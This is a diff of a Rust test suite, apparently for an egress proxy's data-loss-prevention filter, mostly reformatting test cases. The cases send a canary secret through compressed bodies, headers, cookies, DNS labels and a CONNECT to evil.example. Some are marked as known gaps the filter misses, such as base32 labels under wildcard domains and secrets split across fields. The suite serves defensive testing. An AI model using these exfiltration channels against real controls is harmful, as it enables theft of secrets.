             api(),
@@ -1304,16 +1653,22 @@ fn dns_cases(world: &World) -> Vec<Case> {
             tunnel_get(&format!("{CANARY}.wild.allowed.example:443"), "/"),
             denied("dlp"),
         )
-        .control(tunnel_get("sub.wild.allowed.example:443", "/"), Reach::Recorded),
+        .control(
+            tunnel_get("sub.wild.allowed.example:443", "/"),
+            Reach::Recorded,
+        ),
         Case::new(
             "base32 canary as a label under a wildcard route",
             vec![wildcard.clone()],
             tunnel_get(&format!("{label}.wild.allowed.example:443"), "/"),
             Expect::Statuses(vec![200]),
         )
-        .control(tunnel_get("sub.wild.allowed.example:443", "/"), Reach::Recorded)
+        .control(
+            tunnel_get("sub.wild.allowed.example:443", "/"),
+            Reach::Recorded,
+        )
         // TODO(dlp): limit the length or entropy of labels under wildcard routes.
-        .gap("wildcard-subdomain labels are not limited in length or entropy, and base32 is not decoded"),
+        .gap("labels under a wildcard are not limited, and base32 is not decoded"),
     ]
 }
 
@@ -1340,28 +1695,64 @@ fn dlp_cases(world: &World) -> Vec<Case> {
     let (second, third) = rest.split_at(9);
 
     vec![
-        Case::new("gzip body", api(), encoded("gzip", gzip(secret_body.as_bytes())), denied("dlp")),
-        Case::new("deflate body", api(), encoded("deflate", deflate(secret_body.as_bytes())), denied("dlp")),
-        Case::new("brotli body", api(), encoded("br", brotli_stored(secret_body.as_bytes())), denied("dlp")),
-        Case::new("gzip applied twice", api(), encoded("gzip, gzip", gzip(&gzip(secret_body.as_bytes()))), denied("dlp")),
-        Case::new("upper-case coding name", api(), encoded("GZIP", gzip(secret_body.as_bytes())), denied("dlp")),
-        Case::new("unknown coding", api(), encoded("x-foo", secret_body.as_bytes().to_vec()), denied("dlp")),
+        Case::new(
+            "gzip body",
+            api(),
+            encoded("gzip", gzip(secret_body.as_bytes())),
+            denied("dlp"),
+        ),
+        Case::new(
+            "deflate body",
+            api(),
+            encoded("deflate", deflate(secret_body.as_bytes())),
+            denied("dlp"),
+        ),
+        Case::new(
+            "brotli body",
+            api(),
+            encoded("br", brotli_stored(secret_body.as_bytes())),
+            denied("dlp"),
+        ),
+        Case::new(
+            "gzip applied twice",
+            api(),
+            encoded("gzip, gzip", gzip(&gzip(secret_body.as_bytes()))),
+            denied("dlp"),
+        ),
+        Case::new(
+            "upper-case coding name",
+            api(),
+            encoded("GZIP", gzip(secret_body.as_bytes())),
+            denied("dlp"),
+        ),
+        Case::new(
+            "unknown coding",
+            api(),
+            encoded("x-foo", secret_body.as_bytes().to_vec()),
+            denied("dlp"),
+        ),
         Case::new(
             "gzip member inside a multipart body",
             api(),
-            post(&[("Content-Type", "multipart/form-data; boundary=b")], &multipart),
+            post(
+                &[("Content-Type", "multipart/form-data; boundary=b")],
+                &multipart,
+            ),
             Expect::Statuses(vec![200]),
         )
         // TODO(dlp): decode compressed multipart parts before the scan.
-        .gap("a compressed multipart part is scanned compressed; the canary reaches the upstream gzipped"),
+        .gap("a gzip part of a multipart body is scanned compressed"),
         Case::new(
             "canary split over query parameters with junk between",
             api(),
-            tunnel_get(API_AUTHORITY, &format!("/q?a={first}&junk=1&b={second}&junk=2&c={third}")),
+            tunnel_get(
+                API_AUTHORITY,
+                &format!("/q?a={first}&junk=1&b={second}&junk=2&c={third}"),
+            ),
             Expect::Statuses(vec![200]),
         )
         // TODO(dlp): match known secrets from pieces interleaved with other fields.
-        .gap("a secret split over fields with other values between them is not found"),
+        .gap("a secret split over fields with values between them is not found"),
         Case::new(
             "canary split between a header and the body",
             api(),
@@ -1369,7 +1760,7 @@ fn dlp_cases(world: &World) -> Vec<Case> {
             Expect::Statuses(vec![200]),
         )
         // TODO(dlp): match known secrets from pieces interleaved with other fields.
-        .gap("a secret split between a header and the body, with other headers between, is not found"),
+        .gap("a secret split between a header and the body is not found"),
         Case::new(
             "canary split over three requests",
             api(),
@@ -1395,24 +1786,66 @@ fn dlp_cases(world: &World) -> Vec<Case> {
             // the upstream, which is the residual risk of cross-request matching.
             Expect::Statuses([vec![200; CANARY.len() - 1], vec![403]].concat()),
         ),
-        Case::new("image content type with the canary", api(), post(&[("Content-Type", "image/png")], secret_body.as_bytes()), denied("dlp")),
+        Case::new(
+            "image content type with the canary",
+            api(),
+            post(&[("Content-Type", "image/png")], secret_body.as_bytes()),
+            denied("dlp"),
+        ),
         Case::new(
             "canary padded into an opaque ciphertext field",
             api(),
             post(
                 &[("Content-Type", "application/json")],
-                format!("{{\"encrypted_content\":\"{}{CANARY}{}\"}}", "A".repeat(100), "B".repeat(100)).as_bytes(),
+                format!(
+                    "{{\"encrypted_content\":\"{}{CANARY}{}\"}}",
+                    "A".repeat(100),
+                    "B".repeat(100)
+                )
+                .as_bytes(),
             ),
             denied("dlp"),
         ),
-        Case::new("canary in the User-Agent", api(), tunnel_with(API_AUTHORITY, "GET", "/", &[("User-Agent", CANARY)], b""), denied("dlp")),
-        Case::new("canary in a custom header", api(), tunnel_with(API_AUTHORITY, "GET", "/", &[("X-Trace", CANARY)], b""), denied("dlp")),
-        Case::new("canary in a cookie", api(), tunnel_with(API_AUTHORITY, "GET", "/", &[("Cookie", &format!("sid={CANARY}"))], b""), denied("dlp")),
-        Case::new("canary as a path segment", api(), tunnel_get(API_AUTHORITY, &format!("/{CANARY}/x")), denied("dlp")),
+        Case::new(
+            "canary in the User-Agent",
+            api(),
+            tunnel_with(API_AUTHORITY, "GET", "/", &[("User-Agent", CANARY)], b""),
+            denied("dlp"),
+        ),
+        Case::new(
+            "canary in a custom header",
+            api(),
+            tunnel_with(API_AUTHORITY, "GET", "/", &[("X-Trace", CANARY)], b""),
+            denied("dlp"),
+        ),
+        Case::new(
+            "canary in a cookie",
+            api(),
+            tunnel_with(
+                API_AUTHORITY,
+                "GET",
+                "/",
+                &[("Cookie", &format!("sid={CANARY}"))],
+                b"",
+            ),
+            denied("dlp"),
+        ),
+        Case::new(
+            "canary as a path segment",
+            api(),
+            tunnel_get(API_AUTHORITY, &format!("/{CANARY}/x")),
+            denied("dlp"),
+        ),
         Case::new(
             "canary in the Referer query",
             api(),
-            tunnel_with(API_AUTHORITY, "GET", "/", &[("Referer", &format!("https://x.example/?k={CANARY}"))], b""),
+            tunnel_with(
+                API_AUTHORITY,
+                "GET",
+                "/",
+                &[("Referer", &format!("https://x.example/?k={CANARY}"))],
+                b"",
+            ),
             denied("dlp"),
         ),
         Case::new(
@@ -1421,18 +1854,33 @@ fn dlp_cases(world: &World) -> Vec<Case> {
             tunnel_get(&format!("{CANARY}.wild.allowed.example:443"), "/"),
             denied("dlp"),
         )
-        .control(tunnel_get("sub.wild.allowed.example:443", "/"), Reach::Recorded),
+        .control(
+            tunnel_get("sub.wild.allowed.example:443", "/"),
+            Reach::Recorded,
+        ),
         // Error pages never echo request headers.
         Case::new(
             "refusal of an unresolvable host with an Authorization header",
             api(),
-            Send::Outer(http1("GET", "http://nonexistent.invalid/", "nonexistent.invalid", &[("Authorization", &format!("Bearer {CANARY}"))], b"")),
+            Send::Outer(http1(
+                "GET",
+                "http://nonexistent.invalid/",
+                "nonexistent.invalid",
+                &[("Authorization", &format!("Bearer {CANARY}"))],
+                b"",
+            )),
             denied("default"),
         ),
         Case::new(
             "refusal of a denied CONNECT with an Authorization header",
             api(),
-            Send::Outer(format!("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nAuthorization: Bearer {CANARY}\r\nConnection: close\r\n\r\n").into_bytes()),
+            Send::Outer(
+                format!(
+                    "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\
+                 Authorization: Bearer {CANARY}\r\nConnection: close\r\n\r\n"
+                )
+                .into_bytes(),
+            ),
             denied("default"),
         ),
         Case::new(
@@ -1444,7 +1892,13 @@ fn dlp_cases(world: &World) -> Vec<Case> {
         Case::new(
             "upstream down on a token route",
             vec![down],
-            tunnel_with(API_AUTHORITY, "GET", "/", &[("X-Trace", "harmless-value-0042")], b""),
+            tunnel_with(
+                API_AUTHORITY,
+                "GET",
+                "/",
+                &[("X-Trace", "harmless-value-0042")],
+                b"",
+            ),
             upstream_error("route[0]"),
         )
         .must_not_echo(TOKEN_VALUE.as_bytes())
@@ -1454,7 +1908,13 @@ fn dlp_cases(world: &World) -> Vec<Case> {
         Case::new(
             "parser error on a request with the canary in a header",
             api(),
-            Send::Outer(format!("GET http://{API}/ HTTP/1.1\r\nHost: {API}\r\nX-Trace: {CANARY}\r\nBad Header\r\n\r\n").into_bytes()),
+            Send::Outer(
+                format!(
+                    "GET http://{API}/ HTTP/1.1\r\nHost: {API}\r\nX-Trace: {CANARY}\r\n\
+                 Bad Header\r\n\r\n"
+                )
+                .into_bytes(),
+            ),
             Expect::Malformed,
         ),
     ]
